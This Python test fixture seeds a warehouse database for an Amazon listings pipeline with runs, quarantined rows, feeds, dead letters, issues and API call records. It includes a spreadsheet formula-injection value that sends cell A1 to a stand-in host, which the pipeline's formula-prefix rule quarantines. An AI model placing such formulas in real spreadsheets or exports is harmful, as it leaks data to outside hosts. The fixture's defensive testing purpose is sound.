"""A warehouse as the pipeline leaves it after a few days of work, written through the pipeline's own
writers (lifecycle transitions, dead letters, call and issue records) wherever one exists.

Two sellers: ``A1SELLER`` (US and DE) and ``A3EUSELLER`` (UK). In the US, a catalog run
(``scheduled__1``) quarantined one SKU, a feed (``F-DONE``) accepted seven messages and rejected one (``BAG-01``, dead-lettered with
Amazon's 90220), the Listings API rejected a hotfix twice (``BAG-02``, 4000006: one letter, attempt 2), a feed is
still in progress (``F-PROG``), one is queued and one went FATAL. SP-API calls over the last hours
include throttles and a 500. Times are relative to ``now``, so "recent" means what it says.

After the feed, ``alice`` hotfixed ``HP-01``'s price and stock through ``listings_hotfix`` (Amazon
accepted the patch: the listing stays in sync) and then previewed a lower price (Amazon would reject
it; it stored nothing); the offers sync's price patch for ``HP-03`` is on its way (``submitted``: not
in sync, though the payload Amazon accepted is still the catalog's). See :data:`HOTFIX`.

Runs (``run_summaries``): ``catalog_feed_sync`` ran ``scheduled__0`` the day before (US, DE) and
``scheduled__1`` (US, DE, UK); ``offers_inventory_sync`` ran ``scheduled__o1`` and ``scheduled__o2``
(US) in the last hours. The quarantine holds rows of three of them: see :data:`RUN_QUARANTINE`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from sqlalchemy import Engine, insert, update

from listings_pipeline.to_amazon import offer_state
from listings_pipeline.warehouse import lifecycle
from listings_pipeline.warehouse.db import session_scope
from listings_pipeline.warehouse.models import (
    ApiCall,
    DeadLetter,
    DeadLetterEvent,
    FeedSubmission,
    ListingIssue,
    MessageResult,
    PublishAttempt,
    Quarantine,
    RunSummary,
)
from listings_pipeline.warehouse.records import api_call_row, ensure_seller
from spapi.client import CallRecord

SELLER = "A1SELLER"
EU_SELLER = "A3EUSELLER"
US = "ATVPDKIKX0DER"
DE = "A1PA6795UKMFR9"
UK = "A1F83G8C2ARO7P"
HASH_A, HASH_B, HASH_C = "a" * 64, "b" * 64, "c" * 64
ACCEPTED_SKUS = ["HP-01", "HP-02", "HP-03", "HP-04", "HP-05", "TT-01-M-BLK", "SH-00"]
CATALOG_DAG, OFFERS_DAG = "catalog_feed_sync", "offers_inventory_sync"
US_FILE, OFFERS_FILE = "/data/catalog/acme-us.csv", "/data/offers/acme-us.csv"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
HOTFIX_DAG = "listings_hotfix"
#: alice's hotfix run: its id has the ``:`` and ``+`` a link must escape.
HOTFIX = {"actor": "alice", "dag_id": HOTFIX_DAG, "run_id": "manual__2026-12-02T09:00:00+00:00"}
PREVIEW_CODE = "99022"
#: run id -> (SKU or None, rule) of the US rows each run quarantined, in insertion order.
RUN_QUARANTINE = {
    "scheduled__0": [("SH-02", "content_policy.formula_prefixes"), ("HP-03", "specs.number")],
    "scheduled__1": [
        ("TT-02-L-RED", "expect_column_values_to_be_between"),
        ("TT-02-L-RED", "content_policy.no_html"),
        ("SH-02", "content_policy.formula_prefixes"),
        (None, "expect_column_values_to_not_be_null"),
    ],
    "scheduled__o2": [("HP-05", "offers.price")],
}


@dataclass
class Facts:
    """What the data holds, for the assertions."""

    now: datetime
    letters: dict[str, int] = field(default_factory=dict)
    """SKU -> id of its dead letter (``OLD-SKU``'s is resolved, the others open)."""


def _issue(
    seller: str, market: str | None, sku: str | None, code: str | None, severity: str, at: datetime, **kw: Any
) -> dict[str, Any]:
    row = {
        "source": "feed",
        "seller_id": seller,
        "marketplace_id": market,
        "sku": sku,
        "feed_id": None,
        "message_id": None,
        "submission_id": None,
        "code": code,
        "severity": severity,
        "message": f"{code}: something about {sku}",
        "attribute_names": [],
        "categories": [],
        "observed_at": at,
        "run_id": "scheduled__1",
    }
    row.update(kw)
    return row


def _call(operation: str, at: datetime, status: int | None, latency_ms: float, **kw: Any) -> dict[str, Any]:
    record = CallRecord(
        operation=operation,
        method=kw.pop("method", "GET"),
        seller_id=kw.pop("seller_id", SELLER),
        marketplace_id=kw.pop("marketplace_id", US),
        sku=kw.pop("sku", None),
        region="na",
        status=status,
        latency_ms=latency_ms,
        request_id=kw.pop("request_id", None),
        attempt=1,
        throttled=status == 429,
        error_code=kw.pop("error_code", "QuotaExceeded" if status == 429 else None),
        trace_id=None,
        started_at=at.timestamp(),
        limiter_wait_ms=0.0,
    )
    return api_call_row(record, run_id="scheduled__1")


def _quarantined(
    sku: str | None, column: str, value: str, rule: str, line: int, run_id: str, at: datetime
) -> dict[str, Any]:
    return {
        "seller_id": SELLER,
        "marketplace_id": US,
        "sku": sku,
        "product_type": "SHIRT",
        "column_name": column,
        "value": value,
        "rule": rule,
        "reason": f"{column}: {rule}",
        "source_file": US_FILE,
        "source_line": line,
        "run_id": run_id,
        "quarantined_at": at,
    }


def _summary(
    dag_id: str, run_id: str, seller: str, market: str, started: datetime, minutes: int, **counts: int
) -> dict[str, Any]:
    return {
        "dag_id": dag_id,
        "run_id": run_id,
        "seller_id": seller,
        "marketplace_id": market,
        "started_at": started,
        "ended_at": started + timedelta(minutes=minutes),
        "status": "success",
        **counts,
    }


def _run_summaries(s: Any, now: datetime, t: Any) -> None:
    """Figures as ``summarise`` writes them; each branch adds up (extracted = quarantined + planned -
    deleted + unchanged + skipped)."""
    s.execute(
        insert(RunSummary),
        [
            _summary(CATALOG_DAG, "scheduled__0", SELLER, US, t(-1440), 30,
                     extracted=11, quarantined=2, quarantined_skus=2, planned=9, submitted=9, accepted=9),
            _summary(CATALOG_DAG, "scheduled__0", SELLER, DE, t(-1440), 28, extracted=1, planned=1, submitted=1,
                     accepted=1),
            _summary(CATALOG_DAG, "scheduled__1", SELLER, US, t(0), 25,
                     extracted=13, quarantined=4, quarantined_skus=2, planned=9, submitted=8, accepted=7, invalid=1,
                     warnings=2, dead_lettered=1, throttled_calls=2),
            _summary(CATALOG_DAG, "scheduled__1", SELLER, DE, t(0), 20, extracted=2, planned=1, unchanged=1),
            _summary(CATALOG_DAG, "scheduled__1", EU_SELLER, UK, t(0), 22,
                     extracted=2, planned=2, submitted=2, accepted=1, invalid=1, dead_lettered=1),
            _summary(OFFERS_DAG, "scheduled__o1", SELLER, US, now - timedelta(hours=3), 2,
                     extracted=7, planned=2, unchanged=5, submitted=2, accepted=2),
            _summary(OFFERS_DAG, "scheduled__o2", SELLER, US, now - timedelta(hours=2), 3,
                     extracted=7, quarantined=1, quarantined_skus=1, planned=1, unchanged=5, submitted=1, accepted=1),
        ],
    )  # fmt: skip


def _hotfix_and_preview(s: Any, t: Any) -> None:
    """``HP-01``: the offers sync's price and stock, then alice's hotfix (price 19.99 -> 17.99,
    stock 12 -> 5, recorded by the writer the per-SKU path uses) and her preview; ``HP-03``: a
    price patch on its way."""
    offer_state.write(
        s, SELLER, US, "HP-01", {"offer": {"currency": "USD", "our_price": "19.99", "sale_price": "15.99"},
                                 "stock": {"quantity": 12}},
    )  # fmt: skip
    lifecycle.transition(s, SELLER, US, "HP-01", "ready", "listings_api:plan", at=t(120), **HOTFIX)
    lifecycle.transition(
        s, SELLER, US, "HP-01", "submitted", "listings_api:submit", at=t(121), submitted_hash=HASH_C, **HOTFIX
    )
    changed = offer_state.write(
        s, SELLER, US, "HP-01", {"offer": {"our_price": "17.99"}, "stock": {"quantity": 5}}
    )
    lifecycle.transition(
        s, SELLER, US, "HP-01", "accepted", "listings_api:sub-hp-01", at=t(122), patch=True,
        changes=dict(changed), **HOTFIX,
    )  # fmt: skip
    s.execute(
        insert(ListingIssue),
        [
            _issue(
                SELLER, US, "HP-01", PREVIEW_CODE, "ERROR", t(130), source="listings_api", preview=True,
                run_id="manual__2026-12-02T09:30:00+00:00",
                message="The price 2.00 is below the minimum price 5.00 set for this SKU.",
            )
        ],
    )  # fmt: skip
    lifecycle.transition(
        s, SELLER, US, "HP-03", "ready", "plan", "scheduled__2", at=t(140), dag_id=CATALOG_DAG
    )
    lifecycle.transition(
        s, SELLER, US, "HP-03", "submitted", "feed:F-PROG", "scheduled__2", at=t(141), submitted_hash=HASH_C,
        dag_id=CATALOG_DAG,
    )  # fmt: skip


def fill(engine: Engine, now: datetime) -> Facts:
    facts = Facts(now=now)
    day = now - timedelta(days=1)
    t = lambda minutes: day + timedelta(minutes=minutes)  # noqa: E731 - a timeline, read top to bottom
    with session_scope(engine) as s:
        ensure_seller(s, SELLER, name="Acme Outdoor", region="na", spapi_conn_id="spapi_acme_na")
        ensure_seller(s, EU_SELLER, name="Acme Europe", region="eu", spapi_conn_id="spapi_acme_eu")

        # catalog run: everything validated, one row quarantined
        for sku in [*ACCEPTED_SKUS, "BAG-01", "SH-01"]:
            lifecycle.transition(
                s,
                SELLER,
                US,
                sku,
                "ready",
                "validation",
                "scheduled__1",
                at=t(0),
                product_type="LUGGAGE",
                payload={"sku": sku},
                payload_hash=HASH_A,
            )
        lifecycle.transition(
            s,
            SELLER,
            US,
            "TT-02-L-RED",
            "quarantined",
            "validation",
            "scheduled__1",
            at=t(0),
            product_type="SHIRT",
        )
        lifecycle.transition(
            s,
            SELLER,
            DE,
            "TT-01-M-BLK",
            "ready",
            "validation",
            "scheduled__1",
            at=t(0),
            product_type="SHIRT",
            payload_hash=HASH_A,
        )
        lifecycle.transition(s, SELLER, DE, "TT-02-L-RED", "draft", "catalog", "scheduled__1", at=t(0))
        # an offers_inventory_sync run with the catalog run's id (both scheduled at midnight) had a
        # patch rejected in DE: its events name their DAG, so the catalog run does not count it
        for minutes, status in ((30, "submitted"), (31, "invalid"), (32, "ready")):
            lifecycle.transition(
                s, SELLER, DE, "TT-01-M-BLK", status, "listings_api:sub-de", "scheduled__1",
                at=t(minutes), dag_id=OFFERS_DAG,
            )  # fmt: skip
        s.execute(
            insert(Quarantine),
            [
                {
                    "seller_id": SELLER,
                    "marketplace_id": US,
                    "sku": "TT-02-L-RED",
                    "product_type": "SHIRT",
                    "column_name": "list_price",
                    "value": "-5",
                    "rule": "expect_column_values_to_be_between",
                    "reason": "list_price must be at least 0.01",
                    "source_file": US_FILE,
                    "source_line": 12,
                    "run_id": "scheduled__1",
                    "quarantined_at": t(0),
                },
                {
                    "seller_id": SELLER,
                    "marketplace_id": US,
                    "sku": "TT-02-L-RED",
                    "product_type": "SHIRT",
                    "column_name": "item_name",
                    "value": "<b>Tee</b>",
                    "rule": "content_policy.no_html",
                    "reason": "HTML is not allowed in item_name",
                    "source_file": US_FILE,
                    "source_line": 12,
                    "run_id": "scheduled__1",
                    "quarantined_at": t(0),
                },
                _quarantined(
                    "SH-02", "item_name", FORMULA, "content_policy.formula_prefixes", 7, "scheduled__1", t(0)
                ),
                _quarantined(
                    None, "sku", "", "expect_column_values_to_not_be_null", 15, "scheduled__1", t(0)
                ),
                # the day before: SH-02 was as bad already, HP-03 has been fixed since
                _quarantined(
                    "SH-02",
                    "item_name",
                    FORMULA,
                    "content_policy.formula_prefixes",
                    7,
                    "scheduled__0",
                    t(-1440),
                ),
                _quarantined("HP-03", "list_price", "12,99 EUR", "specs.number", 4, "scheduled__0", t(-1440)),
                # an offers run: a price the offers sync cannot read
                {
                    **_quarantined(
                        "HP-05", "price", "-1", "offers.price", 6, "scheduled__o2", now - timedelta(hours=2)
                    ),
                    "source_file": OFFERS_FILE,
                },
            ],
        )
        _run_summaries(s, now, t)

        # the ledger and four feeds
        attempts = s.scalars(
            insert(PublishAttempt).returning(PublishAttempt.id, sort_by_parameter_order=True),
            [
                {
                    "idempotency_key": str(n) * 64,
                    "seller_id": SELLER,
                    "marketplace_ids": [US],
                    "document_hash": str(n) * 64,
                    "document_path": f"/var/runs/doc{n}.json",
                    "message_count": count,
                    "run_id": "scheduled__1",
                    "state": state,
                    "feed_id": feed_id,
                }
                for n, (feed_id, count, state) in enumerate(
                    [
                        ("F-DONE", 8, "done"),
                        ("F-PROG", 3, "feed_created"),
                        ("F-FATAL", 2, "fatal"),
                        ("F-QUEUE", 4, "feed_created"),
                    ],
                    start=1,
                )
            ],
        ).all()
        s.execute(
            insert(FeedSubmission),
            [
                {
                    "feed_id": "F-DONE",
                    "attempt_id": attempts[0],
                    "seller_id": SELLER,
                    "marketplace_ids": [US],
                    "processing_status": "DONE",
                    "created_at": t(5),
                    "processing_started_at": t(7),
                    "processing_ended_at": t(20),
                    "messages_processed": 8,
                    "messages_accepted": 7,
                    "messages_invalid": 1,
                    "errors": 1,
                    "warnings": 2,
                },
                {
                    "feed_id": "F-FATAL",
                    "attempt_id": attempts[2],
                    "seller_id": SELLER,
                    "marketplace_ids": [US],
                    "processing_status": "FATAL",
                    "created_at": t(30),
                    "processing_started_at": t(31),
                    "processing_ended_at": t(33),
                },
                {
                    "feed_id": "F-PROG",
                    "attempt_id": attempts[1],
                    "seller_id": SELLER,
                    "marketplace_ids": [US],
                    "processing_status": "IN_PROGRESS",
                    "created_at": now - timedelta(minutes=30),
                    "processing_started_at": now - timedelta(minutes=25),
                },
                {
                    "feed_id": "F-QUEUE",
                    "attempt_id": attempts[3],
                    "seller_id": SELLER,
                    "marketplace_ids": [US],
                    "processing_status": "IN_QUEUE",
                    "created_at": now - timedelta(minutes=5),
                },
            ],
        )
        done = [*ACCEPTED_SKUS, "BAG-01"]
        lifecycle.transition_many(
            s,
            [
                {"seller_id": SELLER, "marketplace_id": US, "sku": sku, "last_submission_id": "feed:F-DONE"}
                for sku in done
            ],
            "feed:F-DONE",
            "scheduled__1",
            to_status="submitted",
            at=t(5),
        )
        s.execute(
            insert(MessageResult),
            [
                {
                    "feed_id": "F-DONE",
                    "message_id": n,
                    "sku": sku,
                    "operation_type": "UPDATE",
                    "status": "invalid" if sku == "BAG-01" else "accepted",
                }
                for n, sku in enumerate(done, start=1)
            ],
        )
        lifecycle.transition_many(
            s,
            [{"seller_id": SELLER, "marketplace_id": US, "sku": sku} for sku in ACCEPTED_SKUS],
            "feed:F-DONE",
            "scheduled__1",
            to_status="accepted",
            at=t(20),
        )
        lifecycle.transition(s, SELLER, US, "BAG-01", "invalid", "feed:F-DONE", "scheduled__1", at=t(20))
        lifecycle.transition(s, SELLER, US, "SH-00", "live", "notification", at=t(60))
        lifecycle.transition(
            s, SELLER, US, "SH-01", "submitted", "feed:F-PROG", "scheduled__2", at=now - timedelta(minutes=30)
        )

        # the per-SKU path: a hotfix Amazon rejected
        lifecycle.transition(
            s,
            SELLER,
            US,
            "BAG-02",
            "ready",
            "plan",
            "manual__hotfix",
            at=t(100),
            product_type="LUGGAGE",
            payload_hash=HASH_B,
        )
        lifecycle.transition(
            s, SELLER, US, "BAG-02", "submitted", "listings_api:sub-1", "manual__hotfix", at=t(101)
        )
        lifecycle.transition(
            s, SELLER, US, "BAG-02", "invalid", "listings_api:sub-1", "manual__hotfix", at=t(102)
        )

        _hotfix_and_preview(s, t)

        # the EU seller
        lifecycle.transition(s, EU_SELLER, UK, "EU-01", "ready", "validation", at=t(0), payload_hash=HASH_A)
        lifecycle.transition(s, EU_SELLER, UK, "EU-01", "submitted", "feed:F-EU", at=t(1))
        lifecycle.transition(s, EU_SELLER, UK, "EU-01", "accepted", "feed:F-EU", at=t(2))
        lifecycle.transition(s, EU_SELLER, UK, "EU-02", "ready", "validation", at=t(0), payload_hash=HASH_A)
        lifecycle.transition(s, EU_SELLER, UK, "EU-02", "submitted", "feed:F-EU", at=t(1))
        lifecycle.transition(s, EU_SELLER, UK, "EU-02", "invalid", "feed:F-EU", "scheduled__1", at=t(2))

        # issues: the feed's report, the Listings API's answer, a feed-level error, and an old one
        s.execute(
            insert(ListingIssue),
            [
                _issue(
                    SELLER,
                    US,
                    "BAG-01",
                    "90220",
                    "ERROR",
                    t(20),
                    feed_id="F-DONE",
                    message_id=8,
                    attribute_names=["brand"],
                    message="'brand' is required but not supplied.",
                ),
                _issue(SELLER, US, "HP-01", "18027", "WARNING", t(20), feed_id="F-DONE", message_id=1),
                _issue(
                    SELLER,
                    US,
                    "HP-02",
                    "18027",
                    "WARNING",
                    t(20),
                    feed_id="F-DONE",
                    message_id=2,
                    message="18027: the latest wording",
                ),
                _issue(
                    SELLER,
                    US,
                    "BAG-02",
                    "4000006",
                    "ERROR",
                    t(102),
                    source="listings_api",
                    submission_id="sub-1",
                    message="The SKU does not exist.",
                    categories=["INVALID_ATTRIBUTE"],
                ),
                _issue(
                    SELLER,
                    US,
                    None,
                    "FATAL",
                    "ERROR",
                    t(33),
                    feed_id="F-FATAL",
                    message="The feed could not be parsed.",
                ),
                _issue(
                    EU_SELLER,
                    UK,
                    "EU-02",
                    "5665",
                    "ERROR",
                    t(2),
                    message="You need approval to list the brand 'Gated Brand Co'.",
                ),
                _issue(SELLER, US, "OLD-SKU", "OLD-1", "ERROR", now - timedelta(days=40)),
            ],
        )

        # dead letters: three open, one resolved long ago
        for sku, market, seller, path, code, operation in (
            ("OLD-SKU", US, SELLER, "feed", "OLD-1", "JSON_LISTINGS_FEED"),
            ("EU-02", UK, EU_SELLER, "feed", "5665", "JSON_LISTINGS_FEED"),
            ("BAG-01", US, SELLER, "feed", "90220", "JSON_LISTINGS_FEED"),
            ("BAG-02", US, SELLER, "listings_api", "4000006", "patchListingsItem"),
        ):
            letter = lifecycle.open_dead_letter(
                s,
                seller_id=seller,
                marketplace_id=market,
                sku=sku,
                path=path,
                operation=operation,
                reason=f"{code}: rejected",
                code=code,
                run_id="scheduled__1",
                payload={"sku": sku},
            )
            facts.letters[sku] = letter.id
        for sku, run_id in (
            ("BAG-01", "scheduled__1"),
            ("BAG-02", "manual__hotfix"),
            ("EU-02", "scheduled__1"),
        ):
            market = UK if sku == "EU-02" else US
            seller = EU_SELLER if sku == "EU-02" else SELLER
            lifecycle.transition(s, seller, market, sku, "dead_lettered", "dead_letter", run_id, at=t(103))
        old = s.get(DeadLetter, facts.letters["OLD-SKU"])
        assert old is not None
        lifecycle.move_dead_letter(s, old, "resolved", actor="ops@example.com", note="fixed by hand")
        # BAG-02's patch failed a second time (the same letter, attempt 2, the new error)
        again = lifecycle.open_dead_letter(
            s,
            seller_id=SELLER,
            marketplace_id=US,
            sku="BAG-02",
            path="listings_api",
            operation="patchListingsItem",
            reason="4000006: rejected again",
            code="4000006",
            run_id="scheduled__2",
            payload={"sku": "BAG-02"},
        )
        assert again.id == facts.letters["BAG-02"] and again.attempts == 2
        # give the letters distinct, ordered creation times (open_dead_letter stamps "now")
        for minutes, sku in ((-50 * 24 * 60, "OLD-SKU"), (2, "EU-02"), (20, "BAG-01"), (102, "BAG-02")):
            s.execute(
                update(DeadLetter)
                .where(DeadLetter.id == facts.letters[sku])
                .values(created_at=t(minutes), updated_at=t(minutes))
            )
            s.execute(
                update(DeadLetterEvent)
                .where(
                    DeadLetterEvent.dead_letter_id == facts.letters[sku], DeadLetterEvent.from_state.is_(None)
                )
                .values(at=t(minutes))
            )
        s.execute(update(DeadLetter).where(DeadLetter.id == again.id).values(updated_at=t(104)))
        s.execute(
            update(DeadLetterEvent)
            .where(DeadLetterEvent.dead_letter_id == again.id, DeadLetterEvent.from_state == "open")
            .values(at=t(104))
        )

        # SP-API calls over the last hours: a quiet hour, a throttled hour, an hour with a 500
        hour = now.replace(minute=0, second=0, microsecond=0)
        calls = [
            _call("getFeed", hour - timedelta(hours=3) + timedelta(minutes=m), 200, 100.0 + 10 * m)
            for m in range(10)
        ]
        calls += [
            _call(
                "getListingsItem",
                hour - timedelta(hours=2) + timedelta(minutes=m),
                429 if m < 2 else 200,
                50.0 * (m + 1),
            )
            for m in range(10)
        ]
        calls += [
            _call(
                "createFeed",
                hour - timedelta(hours=1) + timedelta(minutes=m),
                500 if m == 0 else 202,
                1000.0,
                method="POST",
            )
            for m in range(4)
        ]
        calls += [
            _call(
                "patchListingsItem", t(101), 200, 420.0, method="PATCH", sku="BAG-02", request_id="req-bag-02"
            )
        ]
        s.execute(insert(ApiCall), calls)
    return facts
